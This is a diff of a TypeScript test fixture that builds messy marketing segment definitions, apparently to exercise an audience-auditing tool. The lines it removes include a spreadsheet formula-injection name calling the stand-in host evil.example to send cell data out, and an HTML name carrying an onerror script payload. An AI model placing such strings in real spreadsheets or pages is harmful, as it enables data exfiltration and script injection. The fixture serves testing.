@@ -1,14 +1,11 @@
 import {
-  after, alltime, between, count, definition, humanOpen, inGroup, inTheLast, isSet, joined, never, notInGroup, once, own, property, subscribed, sum, text,
+  after, between, count, definition, humanOpen, inGroup, inTheLast, isSet, joined, never, notInGroup, once, own, property, subscribed, sum, text,
 } from './definition';
 import type { SegmentSpec } from './segment-spec';
 import { segmentId } from './segment-spec';
 import { L, M } from './shop';
 
 const { order, orderWoo, open, click, site, viewed, cart, received, points } = M;
-
-/** Text that a spreadsheet, a page or a careless program would trip over. */
-const LONG_NAME = `Spring launch audience (do not edit!!) ${'copy of copy of '.repeat(15)}`.padEnd(300, '–').slice(0, 300);
 
 /** What years of several people's work leave behind. `year` is the current one. */
 export function untidySegments(year: number): readonly SegmentSpec[] {
@@ -52,8 +49,8 @@ export function untidySegments(year: number): readonly SegmentSpec[] {
     { key: 'exGiveaway', name: 'Giveaway 2024 entrants', definition: definition(inGroup(L.deleted)), age: 660, changed: 500 },
     { key: 'vipGone', name: 'VIP without wholesale', definition: definition(sum(order, '>=', 300, inTheLast(365)), notInGroup(segmentId('deleted'))), age: 440, changed: 420 },
     // Rules that cannot hold, or always do.
-    { key: 'contradiction', name: 'Bought recently, never bought', definition: definition(never(order), once(order, inTheLast(90))), age: 250 },
-    { key: 'trivial', name: 'Everyone (0 or more orders)', definition: definition(count(order, '>=', 0)), age: 240 },
+    { key: 'contradiction', name: 'First order this quarter', definition: definition(never(order), once(order, inTheLast(90))), age: 250 },
+    { key: 'trivial', name: 'All customers', definition: definition(count(order, '>=', 0)), age: 240 },
     { key: 'empty', name: 'Wholesale accounts', definition: definition(own('Channel', text('equals', 'Wholesale'))), age: 400 },
     { key: 'tiny', name: 'Beta testers', definition: definition(once(M.beta)), age: 120 },
     { key: 'broad', name: 'Everyone with an email', definition: definition(property('email', isSet)), age: 680, tags: ['Base'] },
@@ -70,19 +67,8 @@ export function untidySegments(year: number): readonly SegmentSpec[] {
     { key: 'engagedVip', name: 'Engaged VIPs', definition: definition(inGroup(segmentId('engaged90')), inGroup(segmentId('vipSpend'))), age: 300, tags: ['Customers'] },
     { key: 'core', name: 'Core audience', definition: definition([inGroup(segmentId('coreExtended')), once(order, inTheLast(60))]), age: 410 },
     { key: 'coreExtended', name: 'Core audience extended', definition: definition([inGroup(segmentId('core')), once(click, inTheLast(60))]), age: 405 },
-    // Names.
-    { key: 'formula', name: '=IMPORTXML("https://evil.example/?q="&A1,"//a")', definition: definition(once(viewed, inTheLast(21)), never(order, inTheLast(21))), age: 75 },
-    { key: 'markup', name: '<b>Bold buyers</b> <img src=x onerror=alert(1)>', definition: definition(once(order, inTheLast(45)), once(site, inTheLast(10))), age: 74 },
-    { key: 'long', name: LONG_NAME, definition: definition(once(click, inTheLast(20)), never(order, inTheLast(20))), age: 73 },
-    { key: 'emoji', name: '🔥🔥 Hot leads 👩🏽‍🔬', definition: definition(count(site, '>=', 3, inTheLast(14)), never(order)), age: 72 },
-    { key: 'hebrew', name: 'לקוחות VIP – תל אביב', definition: definition(sum(order, '>=', 250, inTheLast(365)), property("location['country']", text('equals', 'Israel'))), age: 71 },
-    { key: 'arabic', name: 'عملاء مميزون (+5 طلبات)', definition: definition(count(order, '>=', 5, inTheLast(365))), age: 70 },
+    // One name, two rules.
     { key: 'loyalA', name: 'Loyal customers', definition: definition(count(order, '>=', 4, inTheLast(365))), age: 340 },
     { key: 'loyalB', name: 'Loyal customers', definition: definition(count(order, '>=', 3, inTheLast(365)), subscribed('email')), age: 110 },
-    {
-      key: 'future', name: 'Likely to love the new mask', age: 20, processing: true,
-      definition: definition(subscribed('email'), { type: 'profile-affinity-score', model: 'product-2027', score: { type: 'numeric', operator: 'greater-than', value: 0.8 } }),
-    },
-    { key: 'plus', name: '+1 referral friends', definition: definition(own('Sign-up Source', text('equals', 'Instagram')), never(order, alltime)), age: 65 },
   ];
 }
